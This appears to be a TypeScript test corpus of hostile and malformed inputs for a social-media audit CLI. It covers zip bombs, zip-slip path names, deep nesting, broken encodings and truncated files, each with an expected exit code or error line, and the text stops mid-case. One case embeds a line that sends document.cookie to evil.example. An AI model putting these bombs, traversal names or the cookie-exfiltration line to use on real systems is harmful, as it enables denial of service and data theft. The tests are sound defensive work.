import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { expect } from 'vitest';
import type { Report } from '../../src/schema/report.js';
import { buildZip, type TestZipEntry } from '../helpers/zip.js';
import {
  B_OTHER,
  B_SELF,
  DAY,
  HOUR,
  MIN,
  M_ACTOR,
  M_OTHER,
  M_SELF,
  T,
  X_OTHER,
  X_PETE,
  X_SELF,
  accountJs,
  actorJson,
  archiveTweet,
  bskyItem,
  bskyUri,
  exactIdsJson,
  iso,
  mastodonId,
  mastodonStatus,
  normalizedFile,
  normalizedLines,
  normalizedPost,
  outbox,
  outboxAnnounce,
  outboxCreate,
  snowflake,
  tweetsJs,
  v1Tweet,
  v2Page,
  v2Post,
  zeroBomb,
} from './data.js';

/**
 * The hostile-input corpus: inputs a user may really hand the tool (a download cut short, a file
 * resaved by the wrong editor, a collector's odd JSON) and inputs written to hurt it (a zip bomb,
 * zip-slip names, 100,000 levels of nesting, a post of a million characters). Each case says
 * what the built CLI must do with it: the exit code and either the report's figures (worked out
 * by hand from the input, in the comments) or the one line on stderr.
 *
 * `hostile.test.ts` runs every case and also asserts what holds for all of them: at most 5 s,
 * never exit 4, never a stack trace, exactly one stderr line on failure and none on success.
 *
 * Inputs are written at test time into a fresh folder per case (big and binary ones are
 * generated, never committed); the few hand-written ones live in `files/`.
 */

export type Reader =
  | 'any'
  | 'zip'
  | 'x-archive'
  | 'x-v1'
  | 'x-v2'
  | 'mastodon-outbox'
  | 'mastodon-statuses'
  | 'bluesky-feed'
  | 'normalized';

export interface Outcome {
  report: Report | null;
  stdout: string;
  stderr: string;
  /** The case's folder. */
  dir: string;
}

export interface Expected {
  code: 0 | 1 | 2 | 3;
  /** For a failure: the single stderr line matches this. */
  stderr?: RegExp;
  /** For a success with `--json`: the report matches this partial object (`toMatchObject`). */
  report?: Record<string, unknown>;
  /** Anything else to check. */
  check?: (outcome: Outcome) => void;
}

export interface HostileCase {
  name: string;
  reader: Reader;
  /** Writes the input into `dir` and returns the CLI's arguments. */
  build(dir: string): string[] | Promise<string[]>;
  expected: Expected;
}

/** Hand-written inputs committed beside this file. */
export const FILES = new URL('./files/', import.meta.url);
const committed = (name: string): string => new URL(name, FILES).pathname;

function write(dir: string, name: string, data: string | Buffer): string {
  const path = join(dir, name);
  mkdirSync(join(path, '..'), { recursive: true });
  writeFileSync(path, data);
  return path;
}

const json = (path: string): string[] => ['--input', path, '--json'];

/** The default window of a file: the 30 days ending 1 ms after its newest post. */
function windowEndingAt(newestMs: number): Record<string, string> {
  return { since: iso(newestMs + 1 - 30 * DAY), until: iso(newestMs + 1) };
}

/** An archive folder: data/tweets.js (+ account.js). */
function archiveDir(dir: string, tweetsFile: string, opts: { account?: boolean; name?: string } = {}): string {
  const root = join(dir, 'archive');
  write(root, `data/${opts.name ?? 'tweets.js'}`, tweetsFile);
  if (opts.account !== false) write(root, 'data/account.js', accountJs());
  return root;
}

/** Three plain tweets of the account, one an hour from T, as the reference content. */
const threeTweets = (): Record<string, unknown>[] => [0, 1, 2].map((h) => archiveTweet({ at: h * HOUR }));
const threeV1 = (): Record<string, unknown>[] => [0, 1, 2].map((h) => v1Tweet({ at: h * HOUR }));

/** Counts of a report whose items are all originals. */
const originals = (n: number): Record<string, unknown> => ({
  counts: { items: n, original: n, replyToOther: 0, replyToSelf: 0, repostToOther: 0, quoteToOther: 0 },
});

const deep = (n: number, inner = ''): string => '['.repeat(n) + inner + ']'.repeat(n);

/** 600 MiB of zeros in a 0.6 MB deflate stream (see `zeroBomb`); built once, on first use. */
let bomb: ReturnType<typeof zeroBomb> | undefined;
const BOMB_BYTES = 600 * 1024 * 1024;
function theBomb(): ReturnType<typeof zeroBomb> {
  bomb ??= zeroBomb(BOMB_BYTES);
  return bomb;
}

function zip(dir: string, name: string, entries: TestZipEntry[]): string {
  return write(dir, name, buildZip(entries));
}

const X_ZIP_ENTRIES = (): TestZipEntry[] => [
  { name: 'data/account.js', data: accountJs() },
  { name: 'data/tweets.js', data: tweetsJs(threeTweets()) },
];

const ONE_MILLION = 1_000_000;
const millionText = (): string => `Check out our plan ${'0123456789'.repeat(ONE_MILLION / 10 - 2)}`;

// -------------------------------------------------------------------------------------------------

export const CASES: HostileCase[] = [
  // ---- any input: not JSON, not there, not text ---------------------------------------------------
  {
    name: 'an empty file (0 bytes)',
    reader: 'any',
    build: (dir) => json(write(dir, 'empty.json', '')),
    expected: { code: 2, stderr: /empty\.json: is empty \(0 bytes\)/ },
  },
  {
    name: 'a file of white space and blank lines',
    reader: 'any',
    build: (dir) => json(write(dir, 'blank.json', ' \n\n\t \r\n  ')),
    expected: { code: 2, stderr: /blank\.json: is empty/ },
  },
  {
    name: 'the JSON value null',
    reader: 'any',
    build: (dir) => json(write(dir, 'null.json', 'null')),
    expected: { code: 2, stderr: /null\.json: is JSON of a shape social-audit does not read/ },
  },
  {
    name: 'a bare JSON number',
    reader: 'any',
    build: (dir) => json(write(dir, 'number.json', '1500000000000000000000')),
    expected: { code: 2, stderr: /number\.json: is JSON of a shape social-audit does not read/ },
  },
  {
    name: 'binary noise: a PNG header and bytes that are not UTF-8',
    reader: 'any',
    build: (dir) => {
      const bytes = Buffer.alloc(4096);
      for (let i = 0; i < bytes.length; i++) bytes[i] = (i * 7919 + 13) % 256;
      return json(write(dir, 'photo.json', Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), bytes])));
    },
    expected: { code: 2, stderr: /photo\.json: is not valid JSON/ },
  },
  {
    name: 'a gzip file',
    reader: 'any',
    build: (dir) => json(write(dir, 'tweets.json.gz', gzipSync(JSON.stringify(threeV1())))),
    expected: { code: 2, stderr: /tweets\.json\.gz: is a gzip \(\.tar\.gz\) archive.*extract it/ },
  },
  {
    name: 'a path that does not exist',
    reader: 'any',
    build: (dir) => json(join(dir, 'nowhere', 'tweets.js')),
    expected: { code: 2, stderr: /tweets\.js: no such file or folder; check the path/ },
  },
  {
    name: 'an empty folder',
    reader: 'any',
    build: (dir) => {
      mkdirSync(join(dir, 'unpacked'));
      return json(join(dir, 'unpacked'));
    },
    expected: { code: 2, stderr: /unpacked: is an empty folder/ },
  },
  {
    name: '100,000 nested empty arrays',
    reader: 'any',
    build: (dir) => json(write(dir, 'deep.json', deep(100_000))),
    expected: { code: 2, stderr: /deep\.json: holds no posts/ },
  },
  {
    name: '100,000 nested objects',
    reader: 'any',
    build: (dir) => json(write(dir, 'deep.json', `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`)),
    expected: { code: 2, stderr: /deep\.json: is JSON of a shape social-audit does not read/ },
  },
  {
    name: 'a NUL byte between JSON tokens',
    reader: 'any',
    build: (dir) => json(write(dir, 'nul.json', `[${JSON.stringify(v1Tweet({ at: 0 }))},\0]`)),
    expected: { code: 2, stderr: /nul\.json: is not valid JSON/ },
  },
  {
    name: 'JSON cut short in the middle of a string',
    reader: 'any',
    build: (dir) => {
      const text = JSON.stringify(threeV1(), null, 2);
      return json(write(dir, 'cut.json', text.slice(0, Math.floor(text.length * 0.6))));
    },
    expected: { code: 2, stderr: /cut\.json: is not valid JSON \(.*\); if it was cut short, export or download it again/ },
  },
  {
    name: 'hand-written: a v2 response cut short (committed file)',
    reader: 'x-v2',
    build: () => json(committed('truncated-v2-page.json')),
    expected: { code: 2, stderr: /truncated-v2-page\.json: is not valid JSON/ },
  },
  {
    // 50 MB on one line, no newline anywhere: a minified export of 10,000 tweets of 5,000
    // characters each, one an hour apart going back (all but the newest 720 outside the window).
    name: 'a 50 MB file on a single line (10,000 long tweets, minified)',
    reader: 'x-v1',
    build: (dir) => {
      const text = 'Long read. '.repeat(454);
      const parts: string[] = [];
      for (let i = 0; i < 10_000; i++) parts.push(JSON.stringify(v1Tweet({ at: -i * HOUR, text })));
      const body = `[${parts.join(',')}]`;
      expect(body.length).toBeGreaterThan(50_000_000);
      expect(body).not.toContain('\n');
      return json(write(dir, 'minified.json', body));
    },
    expected: {
      code: 0,
      // Window: the 30 days ending at T + 1 ms hold the tweets at T - 0 h … T - 719 h (720 of them).
      report: { source: { itemsRead: 10_000, itemsSkipped: 0, complete: true }, window: windowEndingAt(T), ...originals(720) },
    },
  },
  {
    name: 'a 50 MB single line cut short',
    reader: 'x-v1',
    build: (dir) => {
      const parts: string[] = [];
      for (let i = 0; i < 20_000; i++) parts.push(JSON.stringify(v1Tweet({ at: -i * MIN, text: 'x'.repeat(2000) })));
      const body = `[${parts.join(',')}]`;
      return json(write(dir, 'cut-line.json', body.slice(0, 50_000_000)));
    },
    expected: { code: 2, stderr: /cut-line\.json: is not valid JSON/ },
  },
  {
    name: 'a UTF-16 LE file with a byte order mark (Windows PowerShell `>`)',
    reader: 'x-v1',
    build: (dir) => json(write(dir, 'utf16.json', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(JSON.stringify(threeV1()), 'utf16le')]))),
    expected: { code: 0, report: { source: { format: 'x-v1', itemsRead: 3 }, ...originals(3) } },
  },
  {
    name: 'a UTF-16 BE file with a byte order mark',
    reader: 'x-v1',
    build: (dir) => {
      const le = Buffer.from(JSON.stringify(threeV1()), 'utf16le');
      const be = Buffer.alloc(le.length);
      for (let i = 0; i < le.length; i += 2) {
        be[i] = le[i + 1]!;
        be[i + 1] = le[i]!;
      }
      return json(write(dir, 'utf16be.json', Buffer.concat([Buffer.from([0xfe, 0xff]), be])));
    },
    expected: { code: 0, report: { source: { format: 'x-v1', itemsRead: 3 }, ...originals(3) } },
  },
  {
    name: 'UTF-16 without a byte order mark',
    reader: 'any',
    build: (dir) => json(write(dir, 'utf16-nobom.json', Buffer.from(JSON.stringify(threeV1()), 'utf16le'))),
    expected: { code: 2, stderr: /utf16-nobom\.json: is not valid JSON/ },
  },
  {
    name: '--inbound with a file cut short',
    reader: 'any',
    build: (dir) => {
      const input = write(dir, 'tweets.json', JSON.stringify(threeV1()));
      const inbound = write(dir, 'mentions.json', JSON.stringify(v2Page([v2Post({ at: 0, user: X_PETE })])).slice(0, 40));
      return ['--input', input, '--inbound', inbound, '--json'];
    },
    expected: { code: 2, stderr: /mentions\.json: is not valid JSON/ },
  },

  // ---- zip archives -------------------------------------------------------------------------------
  {
    // An honest bomb: the entry says it holds 600 MiB, and it does (zeros).
    name: 'zip bomb: data/tweets.js inflates to 600 MiB (declared)',
    reader: 'zip',
    build: (dir) => {
      const b = theBomb();
      return json(zip(dir, 'bomb.zip', [
        { name: 'data/account.js', data: accountJs() },
        { name: 'data/tweets.js', data: '', deflated: b.data, crc: b.crc, declaredSize: BOMB_BYTES },
      ]));
    },
    expected: { code: 2, stderr: /bomb\.zip: entry "data\/tweets\.js" is 600 MiB uncompressed, over the 512 MiB limit for one file/ },
  },
  {
    // A lying bomb: the headers say 1 KiB, the data inflates to 600 MiB; inflation stops at 1 KiB.
    name: 'zip bomb that lies: declares 1 KiB, inflates to 600 MiB',
    reader: 'zip',
    build: (dir) => {
      const b = theBomb();
      return json(zip(dir, 'liar.zip', [
        { name: 'data/account.js', data: accountJs() },
        { name: 'data/tweets.js', data: '', deflated: b.data, crc: b.crc, declaredSize: 1024 },
      ]));
    },
    expected: { code: 2, stderr: /liar\.zip: entry "data\/tweets\.js" (cannot be decompressed|is damaged)/ },
  },
  {
    name: 'zip bomb in a Mastodon archive: outbox.json inflates to 600 MiB',
    reader: 'zip',
    build: (dir) => {
      const b = theBomb();
      return json(zip(dir, 'mastodon-bomb.zip', [
        { name: 'actor.json', data: JSON.stringify(actorJson()) },
        { name: 'outbox.json', data: '', deflated: b.data, crc: b.crc, declaredSize: BOMB_BYTES },
      ]));
    },
    expected: { code: 2, stderr: /mastodon-bomb\.zip: entry "outbox\.json" is 600 MiB uncompressed, over the 512 MiB limit/ },
  },
  {
    // Within the 512 MiB limit by its size, but 24 bytes over the longest string V8 can make:
    // refused from its declared size, before anything is inflated.
    name: 'zip entry of exactly 512 MiB (just past what one string can hold)',
    reader: 'zip',
    build: (dir) => {
      const b = zeroBomb(512 * 1024 * 1024);
      return json(zip(dir, 'edge.zip', [
        { name: 'data/account.js', data: accountJs() },
        { name: 'data/tweets.js', data: '', deflated: b.data, crc: b.crc, declaredSize: 512 * 1024 * 1024 },
      ]));
    },
    expected: { code: 2, stderr: /edge\.zip: entry "data\/tweets\.js" is 512 MiB, more text than this tool can hold at once/ },
  },
  {
    // Names that would escape an extraction folder are ignored: the archive is read from its
    // real data/ files, and nothing is ever written (the reader reads in place).
    name: 'zip slip: ../, absolute, drive-letter and data/../../ names beside a real archive',
    reader: 'zip',
    build: (dir) => {
      const evil = tweetsJs([archiveTweet({ at: 5 * HOUR, text: 'evil' })]);
      return json(zip(join(dir, 'inside'), 'slip.zip', [
        { name: '../data/tweets.js', data: evil },
        { name: '../../escaped.txt', data: 'escaped' },
        { name: '/tmp/absolute-escape.txt', data: 'escaped' },
        { name: 'C:\\Windows\\escaped.txt', data: 'escaped' },
        { name: 'data/../../escaped2.txt', data: 'escaped' },
        { name: 'data\\..\\..\\escaped3.txt', data: 'escaped' },
        ...X_ZIP_ENTRIES(),
      ]));
    },
    expected: {
      code: 0,
      // The three real tweets (T, T+1h, T+2h); the evil one at T+5h is never read.
      report: { source: { itemsRead: 3 }, window: windowEndingAt(T + 2 * HOUR), ...originals(3) },
      check: ({ dir }) => {
        for (const name of ['escaped.txt', 'escaped2.txt', 'escaped3.txt', 'data/tweets.js', 'inside/escaped.txt']) {
          expect(() => readFileSync(join(dir, name))).toThrow();
        }
      },
    },
  },
  {
    name: 'zip whose only tweets.js is ../data/tweets.js',
    reader: 'zip',
    build: (dir) => json(zip(dir, 'only-slip.zip', [{ name: '../data/tweets.js', data: tweetsJs(threeTweets()) }, { name: '../data/account.js', data: accountJs() }])),
    // Both entries are dropped, so the zip has no files at all.
    expected: { code: 2, stderr: /only-slip\.zip: is a zip archive with no files in it/ },
  },
  {
    name: 'zip cut in half (an interrupted download)',
    reader: 'zip',
    build: (dir) => {
      const whole = buildZip(X_ZIP_ENTRIES());
      return json(write(dir, 'half.zip', whole.subarray(0, Math.floor(whole.length / 2))));
    },
    expected: { code: 2, stderr: /half\.zip: is not a complete zip archive \(truncated download\?\)/ },
  },
  {
    name: 'zip with an encrypted tweets.js',
    reader: 'zip',
    build: (dir) => json(zip(dir, 'locked.zip', [{ name: 'data/account.js', data: accountJs() }, { name: 'data/tweets.js', data: tweetsJs(threeTweets()), flags: 1 }])),
    expected: { code: 2, stderr: /locked\.zip: entry "data\/tweets\.js" is encrypted/ },
  },
  {
    name: 'zip with a CRC-32 mismatch',
    reader: 'zip',
    build: (dir) => json(zip(dir, 'crc.zip', [{ name: 'data/account.js', data: accountJs() }, { name: 'data/tweets.js', data: tweetsJs(threeTweets()), crc: 0x12345678 }])),
    expected: { code: 2, stderr: /crc\.zip: entry "data\/tweets\.js" is damaged \(size or checksum mismatch\)/ },
  },
  {
    name: 'zip with an LZMA-compressed tweets.js',
    reader: 'zip',
    build: (dir) => json(zip(dir, 'lzma.zip', [{ name: 'data/account.js', data: accountJs() }, { name: 'data/tweets.js', data: tweetsJs(threeTweets()), method: 14 }])),
    expected: { code: 2, stderr: /lzma\.zip: entry "data\/tweets\.js" uses LZMA compression/ },
  },
  {
    name: 'zip with garbage where the deflate data should be',
    reader: 'zip',
    build: (dir) => json(zip(dir, 'garbage.zip', [
      { name: 'data/account.js', data: accountJs() },
      { name: 'data/tweets.js', data: '', deflated: Buffer.from('this is not deflate data at all, just bytes'), crc: 0, declaredSize: 100 },
    ])),
    expected: { code: 2, stderr: /garbage\.zip: entry "data\/tweets\.js" (cannot be decompressed|is damaged)/ },
  },
  {
    name: 'zip with no files',
    reader: 'zip',
    build: (dir) => json(zip(dir, 'none.zip', [])),
    expected: { code: 2, stderr: /none\.zip: is a zip archive with no files in it/ },
  },
  {
    name: 'zip of holiday photos (no tweets.js, no outbox.json)',
    reader: 'zip',
    build: (dir) => json(zip(dir, 'photos.zip', [{ name: 'IMG_0001.jpg', data: Buffer.alloc(1000, 1) }])),
    expected: { code: 2, stderr: /photos\.zip: is a zip without data\/tweets\.js or outbox\.json/ },
  },

  {
    // The window's end would be 10000-01-01, which no ISO 8601 report instant can hold.
    name: '--until 9999-12-31 (a window ending in the year 10000)',
    reader: 'any',
    build: (dir) => [...json(write(dir, 'tweets.json', JSON.stringify(threeV1()))), '--until', '9999-12-31'],
    expected: { code: 2, stderr: /the window 9999-12-02T00:00:00\.000Z → \+010000-01-01T00:00:00\.000Z reaches outside the years 0000-9999/ },
  },
  {
    name: '--month 9999-12',
    reader: 'any',
    build: (dir) => [...json(write(dir, 'tweets.json', JSON.stringify(threeV1()))), '--month', '9999-12'],
    expected: { code: 2, stderr: /reaches outside the years 0000-9999 a report can hold/ },
  },
  {
    name: '--since 1970-01-01 --until 9999-12-30 (every post there is)',
    reader: 'any',
    build: (dir) => [...json(write(dir, 'tweets.json', JSON.stringify(threeV1()))), '--since', '1970-01-01', '--until', '9999-12-30'],
    expected: { code: 0, report: { window: { since: '1970-01-01T00:00:00.000Z', until: '9999-12-31T00:00:00.000Z' }, ...originals(3) } },
  },

  // ---- X archive (tweets.js) ---------------------------------------------------------------------------
  {
    name: 'tweets.js named window.YTD.tweet.part0 (older archives)',
    reader: 'x-archive',
    build: (dir) => json(archiveDir(dir, tweetsJs(threeTweets(), 'tweet'), { name: 'tweet.js' })),
    expected: { code: 0, report: { source: { format: 'x-archive', itemsRead: 3 }, account: { handle: X_SELF.handle }, ...originals(3) } },
  },
  {
    name: 'hand-written: tweets.js with garbage before the [ (committed file)',
    reader: 'x-archive',
    build: () => json(committed('tweets-garbage-prefix.js')),
    expected: { code: 2, stderr: /tweets-garbage-prefix\.js: is not an X archive data file \(expected `window\.YTD\.<name>\.part0 = \[ … \]`\)/ },
  },
  {
    name: 'tweets.js with no spaces around = and a part number of 12',
    reader: 'x-archive',
    build: (dir) => json(archiveDir(dir, tweetsJs(threeTweets(), 'tweets', 'window.YTD.tweets.part12=') )),
    expected: { code: 0, report: { source: { itemsRead: 3 }, ...originals(3) } },
  },
  {
    name: 'tweets.js with a trailing semicolon and CRLF line ends',
    reader: 'x-archive',
    build: (dir) => json(archiveDir(dir, `${tweetsJs(threeTweets())};\r\n`.replace(/\n/g, '\r\n'))),
    expected: { code: 0, report: { source: { itemsRead: 3 }, ...originals(3) } },
  },
  {
    name: 'tweets.js with JavaScript after the array',
    reader: 'x-archive',
    build: (dir) => json(archiveDir(dir, `${tweetsJs(threeTweets())};\nfetch('https://evil.example/?' + document.cookie);`)),
    expected: { code: 2, stderr: /data\/tweets\.js is not valid archive data \(.*\); the file may be cut short or edited/ },
  },
  {
    name: 'tweets.js that holds window.YTD.like (the wrong file renamed)',
    reader: 'x-archive',
    build: (dir) => json(write(dir, 'tweets.js', `window.YTD.like.part0 = ${JSON.stringify([{ like: { tweetId: '1', fullText: 'hi' } }])}`)),
    expected: { code: 2, stderr: /tweets\.js: holds window\.YTD\.like, not tweets/ },
  },
  {
    name: 'tweets.js alone with a UTF-8 BOM',
    reader: 'x-archive',
    build: (dir) => json(write(dir, 'tweets.js', `\ufeff${tweetsJs(threeTweets())}`)),
    // No account.js: the owner is unknown, which a single tweets.js cannot tell.
    expected: { code: 0, report: { source: { format: 'x-archive', itemsRead: 3 }, ...originals(3) } },
  },
  {
    name: 'tweets.js cut short',
    reader: 'x-archive',
    build: (dir) => {
      const text = tweetsJs(threeTweets());
      return json(archiveDir(dir, text.slice(0, text.length - 200)));
    },
    expected: { code: 2, stderr: /data\/tweets\.js is not valid archive data \(.*\); the file may be cut short or edited, download the archive again/ },
  },
  {
    name: 'tweets.js of 100,000 nested arrays',
    reader: 'x-archive',
    build: (dir) => json(archiveDir(dir, `window.YTD.tweets.part0 = ${deep(100_000)}`)),
    expected: { code: 2, stderr: /data\/tweets\.js holds window\.YTD\.tweets, not tweets/ },
  },
  {
    // Tweets at T and T+1h, and one whose created_at says 31 December 9999 but whose id was made
    // at T+2h: the id is X's own clock, so the tweet counts at T+2h and the window ends there.
    name: 'archive: created_at in the year 9999',
    reader: 'x-archive',
    build: (dir) => json(archiveDir(dir, tweetsJs([...threeTweets().slice(0, 2), archiveTweet({ at: 2 * HOUR }, { created_at: 'Fri Dec 31 23:59:59 +0000 9999' })]))),
    expected: { code: 0, report: { source: { itemsRead: 3, itemsSkipped: 0 }, window: windowEndingAt(T + 2 * HOUR), ...originals(3) } },
  },
  {
    name: 'archive: created_at 1 January 1970 (an epoch default)',
    reader: 'x-archive',
    build: (dir) => json(archiveDir(dir, tweetsJs([archiveTweet({ at: -HOUR }, { created_at: 'Thu Jan 01 00:00:00 +0000 1970' }), ...threeTweets()]))),
    // Counted at its id's time, T-1h: inside the window.
    expected: { code: 0, report: { source: { itemsRead: 4, itemsSkipped: 0 }, window: windowEndingAt(T + 2 * HOUR), ...originals(4) } },
  },
  {
    name: 'archive: created_at in the year 275760 (past what a JavaScript date holds)',
    reader: 'x-archive',
    build: (dir) => json(archiveDir(dir, tweetsJs([...threeTweets(), archiveTweet({ at: 3 * HOUR }, { created_at: 'Sat Sep 13 00:00:00 +0000 275760' })]))),
    // Unreadable (not the created_at format): skipped and counted; the report is partial.
    expected: { code: 0, report: { source: { itemsRead: 3, itemsSkipped: 1, complete: false }, window: windowEndingAt(T + 2 * HOUR), ...originals(3) } },
  },
  {
    name: 'archive: a 2006 tweet dated 9999 (no time in its id either)',
    reader: 'x-archive',
    build: (dir) => json(archiveDir(dir, tweetsJs([...threeTweets(), { ...archiveTweet({ at: 0 }), id_str: '20', id: '20', created_at: 'Fri Dec 31 23:59:59 +0000 9999' }]))),
    expected: {
      code: 0,
      report: { source: { itemsRead: 3, itemsSkipped: 1, complete: false }, ...originals(3) },
      check: ({ report }) => expect(report?.warnings.map((w) => w.message).join('\n')).toMatch(/tweet 20: created_at time "Fri Dec 31 23:59:59 \+0000 9999" is before X existed \(2006\) or after 2099/),
    },
  },
  {
    name: 'archive: missing and null fields (no id_str, no text, null entities, null reply fields)',
    reader: 'x-archive',
    build: (dir) => {
      const [a, b, c] = threeTweets();
      const { id_str: _noId, ...noId } = archiveTweet({ at: 3 * HOUR });
      const { full_text: _noText, ...noText } = archiveTweet({ at: 4 * HOUR });
      return json(archiveDir(dir, tweetsJs([
        { ...a, entities: null, extended_entities: null },
        { ...b, in_reply_to_status_id_str: null, in_reply_to_user_id_str: null, in_reply_to_screen_name: null },
        { ...c, entities: { hashtags: null, user_mentions: null, urls: null } },
        noId,
        noText,
        null,
      ])));
    },
    // The first three read as originals; no id_str, no text and a null element are skipped.
    expected: { code: 0, report: { source: { itemsRead: 3, itemsSkipped: 3, complete: false }, ...originals(3) } },
  },
  {
    name: 'archive: account.js whose username is null',
    reader: 'x-archive',
    build: (dir) => {
      const root = archiveDir(dir, tweetsJs(threeTweets()), { account: false });
      write(root, 'data/account.js', `window.YTD.account.part0 = ${JSON.stringify([{ account: { username: null, accountId: X_SELF.id } }])}`);
      return json(root);
    },
    expected: { code: 2, stderr: /data\/account\.js does not hold the expected account record/ },
  },
  {
    name: 'archive: the same tweets in tweets.js and tweets-part1.js',
    reader: 'x-archive',
    build: (dir) => {
      const root = archiveDir(dir, tweetsJs(threeTweets()));
      write(root, 'data/tweets-part1.js', tweetsJs([...threeTweets(), archiveTweet({ at: 3 * HOUR })], 'tweets_part1'));
      return json(root);
    },
    // 7 read, 3 of them seen before: 4 items.
    expected: { code: 0, report: { source: { itemsRead: 7, duplicates: 3 }, window: windowEndingAt(T + 3 * HOUR), ...originals(4) } },
  },
  {
    name: 'archive: an empty tweets.js',
    reader: 'x-archive',
    build: (dir) => json(archiveDir(dir, 'window.YTD.tweets.part0 = []')),
    expected: { code: 0, report: { source: { itemsRead: 0 }, counts: { items: 0 }, score: { value: null, verdict: 'NO_ACTIVITY' } } },
  },
  {
    // A retweet with no entities at all: still a repost of @BCFireUpdates (from the RT marker).
    name: 'archive: a retweet with null entities',
    reader: 'x-archive',
    build: (dir) => json(archiveDir(dir, tweetsJs([...threeTweets(), archiveTweet({ at: 3 * HOUR, text: `RT @${X_OTHER.handle}: Fire near Peachland` }, { entities: null })]))),
    expected: { code: 0, report: { counts: { items: 4, original: 3, repostToOther: 1 } } },
  },
  {
    name: 'a million-character post (JSON report)',
    reader: 'x-archive',
    build: (dir) => json(archiveDir(dir, tweetsJs([...threeTweets(), archiveTweet({ at: 3 * HOUR, text: millionText() })]))),
    expected: {
      code: 0,
      report: { ...originals(4) },
      // "Check out our" is promotional wording: 2 points, so the long post is self-promotional.
      check: ({ report }) => expect(report?.metrics.selfPromotion.count).toBe(1),
    },
  },
  {
    name: 'a million-character post (terminal scorecard)',
    reader: 'x-archive',
    build: (dir) => ['--input', archiveDir(dir, tweetsJs([...threeTweets(), archiveTweet({ at: 3 * HOUR, text: millionText() })]))],
    expected: {
      code: 0,
      check: ({ stdout }) => {
        expect(stdout).toContain('DOING social');
        // Every line fits the 80 columns of a non-terminal stdout; the post is quoted cut short.
        for (const line of stdout.split('\n')) expect(line.length).toBeLessThanOrEqual(80);
        expect(stdout.length).toBeLessThan(20_000);
      },
    },
  },
  {
    name: 'a million-character post (Markdown)',
    reader: 'x-archive',
    build: (dir) => ['--input', archiveDir(dir, tweetsJs([...threeTweets(), archiveTweet({ at: 3 * HOUR, text: millionText() })])), '--format', 'markdown'],
    expected: { code: 0, check: ({ stdout }) => expect(stdout.length).toBeLessThan(20_000) },
  },

  // ---- X API v1.1 -------------------------------------------------------------------------------------
  {
    // Two tweets made in the same millisecond: ids 1 apart. As JSON numbers both round to the
    // same double; read by id_str they are two tweets, not a duplicate.
    name: 'v1.1: ids as JSON numbers beyond 2^53 beside id_str (id_str is used)',
    reader: 'x-v1',
    build: (dir) => json(write(dir, 'precision.json', exactIdsJson([v1Tweet({ at: 0, seq: 1 }), v1Tweet({ at: 0, seq: 2 }), v1Tweet({ at: HOUR })]))),
    expected: {
      code: 0,
      report: { source: { itemsRead: 3, duplicates: 0 }, ...originals(3) },
      check: ({ stdout }) => {
        expect(Number(snowflake(T, 1))).toBe(Number(snowflake(T, 2)));
        expect(stdout).toMatch(/"itemsRead": 3/);
      },
    },
  },
  {
    name: 'v1.1: ids only as JSON numbers beyond 2^53 (no id_str): refused per tweet',
    reader: 'x-v1',
    build: (dir) => {
      const numericOnly = [0, 1].map((h) => {
        const { id_str: _drop, ...t } = v1Tweet({ at: (h + 3) * HOUR });
        return t;
      });
      // The numbers are 19 digits long; whatever they were, any JSON reader rounds them to a double.
      return json(write(dir, 'numeric-ids.json', exactIdsJson([...threeV1(), ...numericOnly])));
    },
    expected: {
      code: 0,
      report: { source: { itemsRead: 3, itemsSkipped: 2, complete: false }, window: windowEndingAt(T + 2 * HOUR), ...originals(3) },
      check: ({ report }) => expect(report?.warnings.map((w) => w.message).join('\n')).toMatch(/its id is a JSON number beyond 2\^53 .*no id_str/),
    },
  },
  {
    // Jack's first tweet: id 20 is exact as a number, so a file without id_str still reads it.
    name: 'v1.1: a 2006 tweet with a small numeric id and no id_str',
    reader: 'x-v1',
    build: (dir) => {
      const { id_str: _drop, ...t } = v1Tweet({ at: 0, text: 'just setting up my twttr' });
      return json(write(dir, 'jack.json', JSON.stringify([{ ...t, id: 20, created_at: 'Tue Mar 21 20:50:14 +0000 2006', user: { id_str: '12', screen_name: 'jack' } }])));
    },
    expected: { code: 0, report: { account: { handle: 'jack' }, window: windowEndingAt(Date.UTC(2006, 2, 21, 20, 50, 14)), ...originals(1) } },
  },
  {
    // The reply's target id was saved only as a (rounded) number: still a reply to @peachland_pete,
    // to a post whose id is lost.
    name: 'v1.1: reply target id only as a number beyond 2^53',
    reader: 'x-v1',
    build: (dir) => {
      const reply = v1Tweet({ at: 3 * HOUR, replyTo: { id: snowflake(T - HOUR), user: X_PETE } });
      delete reply.in_reply_to_status_id_str;
      return json(write(dir, 'reply.json', JSON.stringify([...threeV1(), reply])));
    },
    expected: { code: 0, report: { counts: { items: 4, original: 3, replyToOther: 1 }, metrics: { responseLatency: { noTargetPost: 1 } } } },
  },
  {
    name: 'v1.1: created_at in the year 9999 (the id says T+3h)',
    reader: 'x-v1',
    build: (dir) => json(write(dir, 'future.json', JSON.stringify([...threeV1(), v1Tweet({ at: 3 * HOUR }, { created_at: 'Fri Dec 31 23:59:59 +0000 9999' })]))),
    expected: { code: 0, report: { source: { itemsSkipped: 0 }, window: windowEndingAt(T + 3 * HOUR), ...originals(4) } },
  },
  {
    name: 'v1.1: created_at in the year 275760',
    reader: 'x-v1',
    build: (dir) => json(write(dir, 'far.json', JSON.stringify([...threeV1(), v1Tweet({ at: 3 * HOUR }, { created_at: 'Sat Sep 13 00:00:00 +0000 275760' })]))),
    expected: { code: 0, report: { source: { itemsRead: 3, itemsSkipped: 1, complete: false }, window: windowEndingAt(T + 2 * HOUR), ...originals(3) } },
  },
  {
    name: 'v1.1: null user, entities and text (full_text given), null reply and quote fields',
    reader: 'x-v1',
    build: (dir) => {
      const nulls = { entities: null, text: null, extended_tweet: null, quoted_status: null, retweeted_status: null, is_quote_status: null, quoted_status_permalink: null };
      const tweets: Record<string, unknown>[] = [...threeV1().map((t) => ({ ...t, ...nulls })), { ...v1Tweet({ at: 3 * HOUR }), user: null }];
      return json(write(dir, 'nulls.json', JSON.stringify(tweets)));
    },
    // The tweet with no user has no author: a second "author", so the account must be named.
    expected: { code: 2, stderr: /nulls\.json holds posts by 2 accounts \(@CascadiaRoads, an unnamed author\); name the one to audit/ },
  },
  {
    name: 'v1.1: null id_str and no id',
    reader: 'x-v1',
    build: (dir) => {
      const { id: _drop, ...t } = v1Tweet({ at: 3 * HOUR });
